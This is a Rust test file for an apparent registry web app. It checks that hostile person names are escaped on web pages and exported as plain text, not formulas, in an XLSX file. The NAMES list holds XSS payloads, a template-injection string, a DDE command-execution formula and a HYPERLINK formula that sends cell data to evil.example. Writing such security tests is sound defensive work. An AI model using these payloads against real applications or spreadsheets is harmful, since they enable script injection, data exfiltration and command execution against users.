//! A registry in which somebody hostile has registered: names that are scripts, formulas and tags are words, on every page and in every file.

use crate::harness::WebUi;
use crate::world::{WorldOptions, import, world};
use calamine::{Data, Reader, Xlsx};
use restive_programme::Programme;
use restive_testkit::{Folder, form_encoded};
use std::io::Cursor;

const NAMES: [&str; 6] = [
    "<script>alert(1)</script>",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "\"><img src=x onerror=alert(1)>",
    "+1+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "-2+3{{ 7 * 7 }}",
];

/// Returns a world in which the people on the list have hostile names.
fn hostile_world() -> Folder {
    let files = world(&WorldOptions::default());
    let list = Programme::open(&files.path("programme")).unwrap().list(None).unwrap();
    let listed: Vec<String> = list.rows.into_iter().map(|row| row.id).collect();
    let mut registry = String::new();
    for line in files.read("exports/registry.csv").lines() {
        let mut cells: Vec<String> = line.split(',').map(Into::into).collect();
        if let Some(k) = listed.iter().position(|id| *id == cells[0]) {
            cells[1] = format!("\"{}\"", NAMES[k % NAMES.len()].replace('"', "\"\""));
        }
        registry += &(cells.join(",") + "\n");
    }
    files.write("exports/registry.csv", registry);
    import(files.root());
    files
}

#[test]
fn names_are_words_on_every_page_and_in_every_file() {
    let files = hostile_world();
    let list = Programme::open(&files.path("programme")).unwrap().list(None).unwrap();
    let id = list.rows[0].id.clone();
    let ui = WebUi::start_in(files, |_| {});
    let mut planner = ui.planner();
    let mut seen = 0;
    for path in pages(&id) {
        let page = planner.get(&path);
        assert!(page.status == 200 && !page.body.is_empty(), "{path}: {}", page.status);
        for word in ["<script>", "<img", "onerror=alert(1)>", "href=\"http://evil"] {
            assert!(!page.body.contains(word), "{path}: {word}");
        }
        // escaped, in one of the ways there are
        seen +=
            usize::from(["&lt;script&gt;", "&#60;script&#62;"].iter().any(|word| page.body.contains(word)));
    }
    assert!(seen >= 2, "the hostile name is on {seen} pages");

    let book = planner.get("/week/list.xlsx").bytes;
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(book)).unwrap();
    let mut found = [0; NAMES.len()];
    for sheet in book.sheet_names() {
        if let Ok(formulas) = book.worksheet_formula(&sheet) {
            let formulas: Vec<&String> = formulas.used_cells().map(|(_, _, text)| text).collect();
            assert!(formulas.iter().all(|text| text.is_empty()), "{sheet}: {formulas:?}");
        }
        for (_, _, cell) in book.worksheet_range(&sheet).unwrap().used_cells() {
            if let Data::String(text) = cell {
                NAMES.iter().zip(&mut found).for_each(|(name, found)| *found += usize::from(text == name));
            }
        }
    }
    assert!(
        found[..list.rows.len().min(NAMES.len())].iter().all(|n| *n > 0),
        "as text, as they are: {found:?}"
    );
}

/// Every page that may show a name, of somebody on the list.
fn pages(id: &str) -> Vec<String> {
    vec![
        "/week".into(),
        format!("/week?find={}", form_encoded("<script>")),
        format!("/week/edit?do=out&id={id}"),
        format!("/person/{id}"),
        format!("/outcomes?id={id}"),
        "/capacity".into(),
        "/data".into(),
        "/record".into(),
        "/week/print".into(),
    ]
}
